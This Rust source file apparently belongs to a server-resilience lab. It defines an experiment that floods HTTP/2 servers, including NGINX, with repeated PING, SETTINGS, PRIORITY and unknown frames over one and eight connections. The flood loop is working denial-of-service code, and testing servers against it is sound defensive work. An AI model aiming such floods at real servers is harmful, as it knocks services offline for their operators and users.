//! `hostile/control-frames`: floods of HTTP/2 control frames, which request no content.

use std::error::Error;
use std::io;

use super::{NGINX, SOFTCLOCK};
use crate::lab::hostile::frames::{MAX_WINDOW, PING, PRIORITY, SETTINGS, UNKNOWN, frame, opening};
use crate::lab::hostile::link::{Link, again_and_again};
use crate::lab::hostile::table;
use crate::lab::hostile::tally::Tally;
use crate::lab::hostile::trial::{Case, Ground};
use crate::output::report::{Context, Experiment, Report, Takes};

/// The experiment.
pub const EXPERIMENT: Experiment = Experiment {
    name: "hostile/control-frames",
    about: "floods of PING, SETTINGS, PRIORITY and unknown HTTP/2 frames on 1 and 8 connections",
    takes: Takes::Rounds,
    run,
};

fn run(context: &Context) -> Result<Report, Box<dyn Error>> {
    let connections: &[usize] = if context.smoke { &[8] } else { &[1, 8] };
    let mut cases = Vec::new();
    for &connections in connections {
        for flood in &FLOODS {
            cases.push(Case {
                name: format!("{} frames on {connections} connections", flood.name),
                attack: Box::new(|against| {
                    again_and_again(against, |link| flood.send(link, against.tally));
                }),
                threads: connections,
                units: "frames",
                subjects: vec![SOFTCLOCK, NGINX],
                ground: Ground::Files,
            });
        }
    }
    table::report(context, "floods of HTTP/2 control frames", cases, &NOTES)
}

/// A frame that the attacker sends repeatedly.
struct Flood {
    name: &'static str,
    kind: u8,
    stream: u32,
    payload: &'static [u8],
}

const FLOODS: [Flood; 4] = [
    Flood {
        name: "PING",
        kind: PING,
        stream: 0,
        payload: b"softtime",
    },
    Flood {
        name: "SETTINGS",
        kind: SETTINGS,
        stream: 0,
        payload: b"",
    },
    Flood {
        name: "PRIORITY",
        kind: PRIORITY,
        stream: 1,
        payload: &[0, 0, 0, 0, 7],
    },
    Flood {
        name: "unknown",
        kind: UNKNOWN,
        stream: 0,
        payload: b"",
    },
];

impl Flood {
    fn send(&self, link: &mut Link<'_>, tally: &Tally) -> io::Result<()> {
        link.send(&opening(MAX_WINDOW))?;
        let batch = frame(self.kind, 0, self.stream, self.payload).repeat(BATCH);
        while tally.goes_on() {
            link.send(&batch)?;
            tally.units.add(BATCH);
        }
        Ok(())
    }
}

/// Frames per send.
const BATCH: usize = 1000;

const NOTES: [&str; 1] = ["the attacker reads and forgets what the server answers"];
